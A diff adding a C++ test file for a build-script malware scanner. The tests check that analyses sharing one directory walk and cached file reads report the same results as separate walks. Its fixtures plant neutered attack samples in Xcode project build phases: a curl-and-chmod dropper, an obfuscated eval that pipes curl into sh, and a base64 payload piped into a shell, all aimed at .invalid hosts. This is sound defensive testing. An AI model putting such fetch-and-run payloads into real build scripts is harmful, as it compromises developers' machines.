@@ -1,0 +1,263 @@
+// A cycle's analyses share one walk and one read of each file; everything anyone can see must
+// stay as if each walked and read on its own: the listings in their order, each detector's
+// report at its place, the log records in their order, the verdicts and the classic cycle's
+// early stop. The separate walks are the oracle.
+#include <gtest/gtest.h>
+
+#include <filesystem>
+
+#include "core/FileDiscovery.h"
+#include "scan/Analyses.h"
+#include "scan/ScanPipelines.h"
+#include "support/LogCapture.h"
+#include "support/TempTree.h"
+
+namespace quillon::scan {
+namespace {
+
+using platform::FileURL;
+using Strings = std::vector<std::string>;
+
+struct Observed {
+    Strings output;
+    Strings log;
+    bool clean = true;
+    std::vector<PipelineRun> runs;
+};
+
+Strings recordsOf(const testing::LogCapture& log) {
+    Strings out;
+    for (const auto& record : log.records()) {
+        out.push_back(std::to_string(static_cast<int>(record.level)) + " " + record.subsystem +
+                      " " + record.category + " " + record.message);
+    }
+    return out;
+}
+
+Observed observe(CycleRun (*cycle)(const FileURL&, platform::LineWriter&, Walks),
+                 const FileURL& folder, Walks walks) {
+    testing::LogCapture log;
+    platform::MemoryLineWriter output;
+    const CycleRun run = cycle(folder, output, walks);
+    return {output.lines(), recordsOf(log), run.clean, run.pipelines};
+}
+
+void expectSame(const Observed& shared, const Observed& separate) {
+    EXPECT_EQ(shared.output, separate.output);
+    EXPECT_EQ(shared.log, separate.log);
+    EXPECT_EQ(shared.clean, separate.clean);
+    ASSERT_EQ(shared.runs.size(), separate.runs.size());
+    for (std::size_t i = 0; i < shared.runs.size(); ++i) {
+        SCOPED_TRACE(shared.runs[i].name);
+        EXPECT_EQ(shared.runs[i].name, separate.runs[i].name);
+        EXPECT_EQ(shared.runs[i].clean, separate.runs[i].clean);
+        EXPECT_EQ(shared.runs[i].results, separate.runs[i].results);
+        EXPECT_EQ(shared.runs[i].findings, separate.runs[i].findings);
+        EXPECT_EQ(shared.runs[i].diagnostics, separate.runs[i].diagnostics);
+    }
+}
+
+std::string phase(const std::string& name, const std::string& script) {
+    return "\t\tA" + name + " = {\n\t\t\tisa = PBXShellScriptBuildPhase;\n\t\t\tname = \"" + name +
+           "\";\n\t\t\tshellPath = /bin/sh;\n\t\t\tshellScript = \"" + script + "\";\n\t\t};\n";
+}
+
+std::string project(const std::string& objects) {
+    return "// !$*UTF8*$!\n{\n\tarchiveVersion = 1;\n\tobjects = {\n" + objects +
+           "\t};\n\trootObject = R;\n}\n";
+}
+
+// A small monorepo: apps with ordinary phases (CocoaPods, SwiftLint), settings files, schemes,
+// sources, Pods, a git hook; `infection` adds what an attack leaves.
+void writeMonorepo(const testing::TempTree& tree, const std::string& infection) {
+    for (const char* app : {"Shop", "Wallet", "Maps"}) {
+        const std::string base = std::string("Apps/") + app + "/" + app;
+        tree.write(base + ".xcodeproj/project.pbxproj",
+                   project(phase("CheckPods",
+                                 "diff \\\"${PODS_ROOT}/../Podfile.lock\\\" "
+                                 "\\\"${PODS_ROOT}/Manifest.lock\\\" > /dev/null\\n") +
+                           phase("SwiftLint",
+                                 "if which swiftlint >/dev/null; then\\n  swiftlint\\n"
+                                 "fi\\n")));
+        tree.write(base + ".xcodeproj/xcshareddata/xcschemes/" + app + ".xcscheme",
+                   "<?xml version=\"1.0\"?><Scheme><BuildAction/></Scheme>\n");
+        tree.write(std::string("Apps/") + app + "/Config/Base.xcconfig", "SWIFT_VERSION = 5.0\n");
+        tree.write(std::string("Apps/") + app + "/Sources/AppDelegate.swift", "import UIKit\n");
+        tree.write(std::string("Apps/") + app + "/Resources/Info.plist", "<plist/>\n");
+        tree.write(std::string("Apps/") + app + "/scripts/version.sh",
+                   "#!/bin/sh\nexit 0\nagvtool next-version -all\n");
+    }
+    tree.write("Pods/Pods.xcodeproj/project.pbxproj", project(""));
+    tree.write("Pods/Target Support Files/Pods-Shop/Pods-Shop-frameworks.sh",
+               "#!/bin/sh\nset -e\necho \"Embedding frameworks\"\n");
+    tree.write(".git/hooks/pre-commit", "#!/bin/sh\nexit 0\nswiftformat --lint .\n");
+    tree.write(".git/hooks/pre-push.sample", "#!/bin/sh\n");
+    if (!infection.empty()) {
+        tree.write("Apps/Maps/Maps.xcodeproj/project.pbxproj",
+                   project(phase("Compile Assets", infection)));
+    }
+}
+
+TEST(SharedCycle, SameOutputLogAndVerdictsAsSeparateWalks) {
+    struct Row {
+        std::string name;
+        std::function<void(const testing::TempTree&)> build;
+        Strings ran;  // the analyses the monitor's cycle runs, with their verdicts
+    };
+    const std::vector<Row> rows = {
+        {"clean monorepo: all three analyses run",
+         [](auto& tree) { writeMonorepo(tree, ""); },
+         {"xcsset clean", "xcodespy clean", "buildscripts clean"}},
+        {"monorepo with a dropper: XCSSET stops the classic cycle",
+         [](auto& tree) {
+             writeMonorepo(tree, "");
+             tree.write("Apps/Shop/scripts/fetch.sh",
+                        "#!/bin/sh\nexit 0\ncurl -fsSL https://x.example.invalid/h -o h\nchmod "
+                        "+x h\n");
+         },
+         {"xcsset threat", "buildscripts clean"}},
+        {"monorepo with an obfuscated phase: XcodeSpy's threat",
+         [](auto& tree) {
+             writeMonorepo(tree,
+                           "exit 0; a='cu';b='rl';c=' -s';d=' ht';e='tps://x';f='.invalid';"
+                           "g='/p';h=' | sh';eval \\\"$a$b$c$d$e$f$g$h\\\"");
+         },
+         {"xcsset clean", "xcodespy threat", "buildscripts threat"}},
+        {"monorepo with a decoded payload piped into a shell",
+         [](auto& tree) {
+             writeMonorepo(tree,
+                           "exit 0\\necho ZXhpdCAwOyBjdXJsIGh0dHBzOi8veC5leGFtcGxlLmludmFsaWQg"
+                           "fCBzaA== | base64 -D | sh\\n");
+         },
+         {"xcsset clean", "xcodespy clean", "buildscripts threat"}},
+        {"a large settings file and a directory named like a script",
+         [](auto& tree) {
+             writeMonorepo(tree, "");
+             tree.mkdir("Apps/Shop/odd.sh");
+             tree.write("Apps/Shop/big.xcconfig", std::string(1 << 20, 'A'));
+         },
+         {"xcsset clean", "xcodespy clean", "buildscripts clean"}},
+    };
+    for (const auto& row : rows) {
+        SCOPED_TRACE(row.name);
+        testing::TempTree tree;
+        row.build(tree);
+        for (auto cycle : {runScanCycle, runClassicCycle}) {
+            expectSame(observe(cycle, tree.url(), Walks::shared),
+                       observe(cycle, tree.url(), Walks::separate));
+        }
+        Strings ran;
+        const Observed full = observe(runScanCycle, tree.url(), Walks::shared);
+        for (const auto& run : full.runs) {
+            ran.push_back(run.name + (run.clean ? " clean" : " threat"));
+        }
+        EXPECT_EQ(ran, row.ran);
+    }
+}
+
+TEST(SharedCycle, SamplesGiveTheSameOutputAsSeparateWalks) {
+    for (const auto& entry : std::filesystem::directory_iterator(QUILLON_SAMPLES_DIR)) {
+        if (!entry.is_directory()) {
+            continue;
+        }
+        SCOPED_TRACE(entry.path().filename().string());
+        const FileURL folder(entry.path().string(), true);
+        for (auto cycle : {runScanCycle, runClassicCycle}) {
+            expectSame(observe(cycle, folder, Walks::shared),
+                       observe(cycle, folder, Walks::separate));
+        }
+        // The single-project window, against its analyses run one by one.
+        platform::MemoryLineWriter shared, separate;
+        bool separateClean = true;
+        {
+            testing::LogCapture log;
+            const bool sharedClean = runSingleProjectScan(folder, shared);
+            for (const Analysis& analysis : analyses()) {
+                if (analysis.runInWindow != nullptr) {
+                    const bool clean = analysis.runInWindow(folder, separate).clean;
+                    separateClean = separateClean && clean;
+                }
+            }
+            EXPECT_EQ(sharedClean, separateClean);
+            EXPECT_TRUE(log.records().empty());  // the window's scan logs nothing
+        }
+        EXPECT_EQ(shared.lines(), separate.lines());
+    }
+}
+
+TEST(SharedCycle, OneWalkServesEveryAnalysisAndNothingElse) {
+    testing::TempTree tree;
+    writeMonorepo(tree, "");
+    tree.write("Other/Other.xcodeproj/project.pbxproj", project(""));
+    const core::FileDiscovery discovery;
+    std::vector<std::vector<FileURL>> separate;
+    for (const Analysis& analysis : analyses()) {
+        separate.push_back(discovery.discoverFiles(tree.url(), analysis.files()));
+    }
+    const auto scope = shareCycle(tree.url());
+    EXPECT_EQ(scope->walks(), 0);  // nothing walked until someone asks
+    for (std::size_t i = 0; i < analyses().size(); ++i) {
+        EXPECT_EQ(discovery.discoverFiles(tree.url(), analyses()[i].files()), separate[i]);
+    }
+    EXPECT_EQ(scope->walks(), 1);
+    // Another folder, or a configuration no analysis has, is walked as before.
+    const FileURL other(tree.path("Other"), true);
+    EXPECT_EQ(scope->filesFor(other, analyses()[0].files()), nullptr);
+    EXPECT_EQ(discovery.discoverFiles(other, analyses()[0].files()).size(), 1u);
+    const core::DiscoveryConfiguration swiftOnly{{"swift"}, true};
+    EXPECT_EQ(scope->filesFor(tree.url(), swiftOnly), nullptr);
+    EXPECT_EQ(discovery.discoverFiles(tree.url(), swiftOnly).size(), 3u);
+}
+
+TEST(SharedReads, LaterReadsAreServedAsAFreshReadWouldComeOut) {
+    testing::TempTree tree;
+    tree.write("a.sh", "echo a\n");
+    tree.write("big.pbxproj", std::string(4096, 'x'));
+    tree.mkdir("dir.sh");
+    const std::string a = tree.path("a.sh"), big = tree.path("big.pbxproj"),
+                      dir = tree.path("dir.sh"), once = tree.path("once.sh");
+    tree.write("once.sh", "echo once\n");
+    platform::SharedReads shared({{a, 3}, {big, 2}, {dir, 2}}, 1 << 20);
+
+    EXPECT_EQ(platform::readTextFileUpTo(a, 100).text, "echo a\n");
+    EXPECT_EQ(shared.keptBytes(), 7u);
+    tree.write("a.sh", "changed\n");  // a cycle judges what it first read
+    EXPECT_EQ(platform::readTextFileUpTo(a, 100).text, "echo a\n");
+    const auto small = platform::readTextFileUpTo(a, 3);  // a smaller limit: too large
+    EXPECT_TRUE(small.tooLarge);
+    EXPECT_FALSE(small.text);
+    EXPECT_EQ(small.size, 7u);
+    EXPECT_EQ(shared.served(), 2);
+    EXPECT_EQ(shared.keptBytes(), 0u);  // its last expected read released it
+    EXPECT_EQ(platform::readTextFileUpTo(a, 100).text, "changed\n");
+
+    // Too large for the first reader, read afresh for one that allows more.
+    EXPECT_TRUE(platform::readTextFileUpTo(big, 100).tooLarge);
+    EXPECT_EQ(platform::readTextFileUpTo(big, 10000).text->size(), 4096u);
+    // Failures are served as they came.
+    const auto first = platform::readTextFileUpTo(dir, 100);
+    const auto again = platform::readTextFileUpTo(dir, 100);
+    EXPECT_FALSE(again.text);
+    EXPECT_EQ(again.failure, first.failure);
+    // A file nobody reads twice is never kept.
+    EXPECT_EQ(platform::readTextFileUpTo(once, 100).text, "echo once\n");
+    EXPECT_EQ(shared.keptBytes(), 0u);
+}
+
+TEST(SharedReads, KeepsNoMoreThanItsBudget) {
+    testing::TempTree tree;
+    tree.write("one.pbxproj", std::string(600, 'a'));
+    tree.write("two.pbxproj", std::string(600, 'b'));
+    const std::string one = tree.path("one.pbxproj"), two = tree.path("two.pbxproj");
+    platform::SharedReads shared({{one, 2}, {two, 2}}, 1000);
+    platform::readTextFileUpTo(one, 1 << 20);
+    platform::readTextFileUpTo(two, 1 << 20);
+    EXPECT_EQ(shared.keptBytes(), 600u);
+    EXPECT_EQ(platform::readTextFileUpTo(two, 1 << 20).text, std::string(600, 'b'));  // reread
+    EXPECT_EQ(shared.served(), 0);
+    EXPECT_EQ(platform::readTextFileUpTo(one, 1 << 20).text, std::string(600, 'a'));
+    EXPECT_EQ(shared.served(), 1);
+}
+
+}  // namespace
+}  // namespace quillon::scan
